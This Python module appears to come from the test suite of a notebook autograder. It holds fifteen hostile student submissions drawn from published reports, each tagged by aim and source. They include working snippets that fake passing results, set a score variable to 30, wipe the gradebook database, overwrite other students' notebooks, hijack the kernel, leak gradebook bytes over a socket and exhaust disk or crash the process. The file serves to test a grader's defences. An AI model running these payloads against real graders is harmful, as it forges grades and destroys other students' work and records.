"""What students and attackers were reported to do to other graders that run code."""

from dataclasses import replace

from .model import Hostile, code

SALIGRAMA = "Saligrama 2022, 'Gradescope autograder security'"
GRADEMA = "Gradema's documentation, 'Security of autograder'"
KRATZKE = "Kratzke 2019, 'Smart like a fox: how clever students trick assessment systems'"
PRAIRIE = "PrairieLearn #5184 (code and tests in one process)"
SHOWTRACEBACK = """import IPython.core.interactiveshell as shell
shell.InteractiveShell.showtraceback = lambda *a, **k: None
"""
EARLY = "import sys\nsys.exit(0)\n"
FRAMES = """import sys
def watch(frame, event, arg):
    if "maximum" in frame.f_locals: frame.f_locals["maximum"] = 30
    return watch
sys.settrace(watch)
"""
LATE = """import atexit, json
@atexit.register
def later():
    for kept in (course / "autograded").rglob("*.ipynb"):
        kept.write_text(kept.read_text().replace('"0', '"30'))
"""
BACKGROUND = """import os, time
if not os.fork():
    os.setsid()
    time.sleep(20)
    (course / "gradebook.db").write_bytes(b"")
    os._exit(0)
"""
THREAD = """import threading, time
def race():
    for _ in range(2000):
        for other in (course / "submitted").glob("zz/*/*.ipynb"):
            other.write_text("{}")
        time.sleep(0.01)
threading.Thread(target=race, daemon=True).start()
"""
EVENTS = """get_ipython().events.register("pre_run_cell", lambda info: setattr(info, "raw_cell", "30.0"))
get_ipython().run_cell = lambda *a, **k: None
"""
KERNEL = """kernel = get_ipython().kernel
kernel.session.send = (lambda real: lambda stream, kind, *a, **k: real(stream, kind, *a, **k))(kernel.session.send)
async def answer(self, *a, **k): return {"status": "ok", "execution_count": 1}
type(kernel).do_execute = answer
"""
COLLECT = """import gc
for thing in gc.get_objects():
    if callable(thing) and getattr(thing, "__name__", "") == "grade":
        print(thing, getattr(thing, "__closure__", None))
"""
SETTINGS = """(course / "nbgrader_config.py").write_text("import pathlib; pathlib.Path('forged').touch()")
"""
LINK = """import os
os.symlink(course / "gradebook.db", "book.html")
os.link(course / "gradebook.db", "hard.html")
"""
NETWORK = """import socket
heard = socket.socket(); heard.bind(("127.0.0.1", 0)); heard.listen()
socket.create_connection(heard.getsockname()).sendall((course / "gradebook.db").read_bytes()[:100])
"""
ASYNC = "import asyncio\nloop = asyncio.get_event_loop()\nloop.call_soon = lambda *a, **k: None\n"
SIGNALS = "import signal, os\nsignal.alarm(1)\nos.kill(os.getpid(), signal.SIGSEGV)\n"
DISK = """with open("filled", "wb") as filled:
    for _ in range(3000):
        filled.write(bytes(1_000_000))
"""
REPORTS = (
    ("errors not shown", "forge", SHOWTRACEBACK, "nbgrader #1324 (showtraceback replaced)"),
    ("early exit", "stop", EARLY, GRADEMA),
    ("tests watched by a tracer", "forge", FRAMES, PRAIRIE),
    ("result changed at the end", "forge", LATE, SALIGRAMA),
    ("process left behind", "stop", BACKGROUND, SALIGRAMA),
    ("neighbours overwritten meanwhile", "stop", THREAD, SALIGRAMA),
    ("cells not run", "forge", EVENTS, KRATZKE),
    ("kernel that answers by itself", "forge", KERNEL, PRAIRIE),
    ("tests found in memory", "read", COLLECT, PRAIRIE),
    ("grader's settings rewritten", "forge", SETTINGS, SALIGRAMA),
    ("links made while it runs", "read", LINK, "CWE-59 (links followed)"),
    ("sent away", "read", NETWORK, SALIGRAMA),
    ("event loop stopped", "stop", ASYNC, KRATZKE),
    ("crash", "stop", SIGNALS, GRADEMA),
    ("disk filled", "stop", DISK, "nbgrader's documentation: autograding and resources"),
)
SUBMISSIONS: tuple[Hostile, ...] = tuple(
    replace(code(f"reported: {name}", aim, payload), source=source)  # type: ignore[arg-type]
    for name, aim, payload, source in REPORTS
)
